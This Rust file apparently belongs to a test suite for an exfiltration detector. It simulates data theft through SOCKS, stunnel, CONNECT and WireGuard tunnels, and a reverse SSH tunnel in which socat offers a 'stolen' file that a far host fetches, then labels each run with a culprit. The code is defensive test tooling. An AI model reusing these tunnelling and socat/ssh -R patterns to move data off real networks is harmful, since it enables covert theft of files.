//! Uploads inside tunnels, and a theft that the receiver fetches through one.

use std::fs;
use std::time::Duration;

use anyhow::{Context, Result};
use detector_tests::{poll_until, wait_for_tcp_listener};

use crate::random::Random;
use crate::scene::{Outcome, Scene, ensure_arrived};
use crate::tools::tunnel::{self, Open};

const START: Duration = Duration::from_secs(15);
const OFFERED_PORT: u16 = 8000;
const FETCHED_PORT: u16 = 9000;

pub(crate) fn socks(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    steal(scene, random, tunnel::socks)
}

pub(crate) fn stunnel(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    steal(scene, random, tunnel::stunnel)
}

pub(crate) fn connect(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    steal(scene, random, tunnel::connect)
}

pub(crate) fn wireguard(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    steal(scene, random, tunnel::wireguard)
}

fn steal(scene: &Scene<'_>, random: &mut Random, open: Open) -> Result<Outcome> {
    let tunnel = open(scene, random)?;
    let bytes = random.size(50_000, 12_000_000);
    tunnel.upload(scene, random, bytes)?;
    let notes = format!("{bytes} bytes through {}", tunnel.host());
    Ok(Outcome::stolen(tunnel.culprit(scene)?, bytes, notes))
}

/// `ssh -R`: the client opens the way, and the far host fetches the file.
pub(crate) fn reverse(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let target = scene.named_target(random)?;
    let bytes = random.size(50_000, 12_000_000);
    let file = format!("OPEN:{},rdonly", scene.document("stolen", &random.document(bytes))?);
    let offer = format!("TCP-LISTEN:{OFFERED_PORT},bind=127.0.0.1,reuseaddr");
    let _offer = scene.client().spawn("socat", ["-u", &file, &offer])?;
    wait_for_tcp_listener(scene.client(), OFFERED_PORT, START)?;
    let ssh = scene.shared.path("ssh_config");
    let way = format!("127.0.0.1:{FETCHED_PORT}:127.0.0.1:{OFFERED_PORT}");
    let login = format!("root@{}", target.host);
    let _client = scene.client().spawn("ssh", ["-N", "-F", &ssh, "-R", &way, &login])?;
    wait_for_tcp_listener(scene.internet(), FETCHED_PORT, START)?;
    let got = scene.inbox("got");
    let sink = format!("OPEN:{},creat", got.display());
    let fetch = format!("TCP:127.0.0.1:{FETCHED_PORT}");
    scene.internet().run("socat", ["-u", &fetch, &sink])?;
    let arrived = || fs::metadata(&got).map_or(0, |file| file.len() as usize);
    poll_until(START, || (arrived() >= bytes).then_some(())).ok();
    ensure_arrived(bytes, arrived()).context("the far host fetched something else")?;
    let culprit = scene.culprit(&target, "tcp", Some(22))?;
    Ok(Outcome::stolen(culprit, bytes, format!("{bytes} bytes fetched by {}", target.host)))
}
